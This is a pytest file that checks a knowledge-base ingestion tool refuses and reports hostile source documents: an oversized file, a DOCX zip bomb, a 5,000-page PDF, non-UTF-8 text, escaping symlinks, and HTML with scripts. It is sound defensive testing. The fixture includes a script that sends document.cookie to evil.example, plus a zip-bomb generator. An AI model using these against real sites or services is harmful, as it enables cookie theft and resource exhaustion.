"""Hostile documents in a source folder are refused or limited and reported while the rest of
the sync goes on: a 200 MB file, a zip bomb in a DOCX, a PDF of 5,000 pages, a non-UTF-8 text
file, HTML with scripts, and a symbolic link that leads out of the folder. (A web page over the
byte limit: ``tests/test_sync.py``.)"""

from __future__ import annotations

import zipfile
from pathlib import Path

import pypdfium2 as pdfium
import pytest

from knowledge.base import KnowledgeBase
from knowledge.documents import LoadError, SourceFile, discover, load_file
from knowledge.limits import DocumentLimits
from knowledge.sources.config import SourceConfig
from tests.conftest import make_settings

GOOD = "# Parking\n\nStaff park on level two of the garage, next to the bicycle racks.\n"
SECRET = "The root password of the build server is hunter2-correct-horse."


def _zip_bomb(path: Path, unpacked_mb: int) -> None:
    """A DOCX-shaped zip whose document part inflates to ``unpacked_mb`` MB of zeros (a few
    hundred kB on disk)."""
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        with z.open("word/document.xml", "w") as member:
            block = b"\0" * (1 << 20)
            for _ in range(unpacked_mb):
                member.write(block)


def _pdf_pages(path: Path, pages: int) -> None:
    pdf = pdfium.PdfDocument.new()
    for _ in range(pages):
        pdf.new_page(200, 200)
    pdf.save(str(path))
    pdf.close()


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "parking.md").write_text(GOOD)
    (docs / "page.html").write_text(
        "<html><head><title>Lunch</title><script>alert('pwned')</script></head><body>"
        "<h1>Lunch</h1><p>The canteen serves lunch from noon to two.</p>"
        "<script>document.location='https://evil.example/'+document.cookie</script>"
        "</body></html>"
    )
    with (docs / "huge.txt").open("wb") as f:
        f.truncate(200 * 1024 * 1024)  # 200 MB (sparse: no disk used)
    _zip_bomb(docs / "bomb.docx", unpacked_mb=64)
    _pdf_pages(docs / "long.pdf", 5_000)
    (docs / "latin1.txt").write_bytes("Caf\xe9 cr\xe8me br\xfbl\xe9e, \xa9 2026".encode("latin-1"))
    outside = tmp_path / "private"
    outside.mkdir()
    (outside / "secrets.md").write_text(f"# Secrets\n\n{SECRET}\n")
    (docs / "notes.md").symlink_to(outside / "secrets.md")
    (docs / "private").symlink_to(outside, target_is_directory=True)
    return docs


def test_hostile_documents_are_refused_and_reported_and_the_rest_is_indexed(
    hostile: Path, tmp_path: Path
) -> None:
    kb = KnowledgeBase.open(make_settings(tmp_path / "data"))
    try:
        report = kb.ingest([hostile], progress=False)
        (source,) = report.sources
        assert sorted(source.added) == ["page.html", "parking.md"]
        reasons = {Path(s.path).name: s.reason for s in source.skipped}
        assert "over the limit of 50.0 MB" in reasons["huge.txt"]
        assert "unpacks to 64.0 MB" in reasons["bomb.docx"]
        assert "5000 pages, over the limit of 2000" in reasons["long.pdf"]
        assert "not UTF-8" in reasons["latin1.txt"]
        assert "leads outside the folder" in reasons["notes.md"]
        assert "secrets.md" not in str(source.skipped)  # the linked folder is not followed

        texts = " ".join(c.text for c in kb.index.all_chunks())
        assert "canteen serves lunch" in texts
        assert "alert" not in texts and "document.cookie" not in texts
        assert "hunter2" not in texts
        hits = kb.retrieve("root password of the build server", audience="internal").hits
        assert not any("hunter2" in h.chunk.text for h in hits)
    finally:
        kb.close()


def test_limits_are_configurable(tmp_path: Path) -> None:
    pdf = tmp_path / "three.pdf"
    _pdf_pages(pdf, 3)
    with pytest.raises(LoadError, match="3 pages, over the limit of 2"):
        load_file(SourceFile(pdf, "three.pdf"), DocumentLimits(max_pages=2))
    small = tmp_path / "small.md"
    small.write_text(GOOD)
    with pytest.raises(LoadError, match="over the limit of 0.0 MB"):
        load_file(SourceFile(small, "small.md"), DocumentLimits(max_bytes=10))
    config = SourceConfig(id="docs", kind="folder", location=str(tmp_path), max_document_mb=0.5)
    assert config.limits.max_bytes == 512 * 1024
    files, skipped = discover([tmp_path])
    assert {f.doc_id for f in files} == {"three.pdf", "small.md"} and not skipped
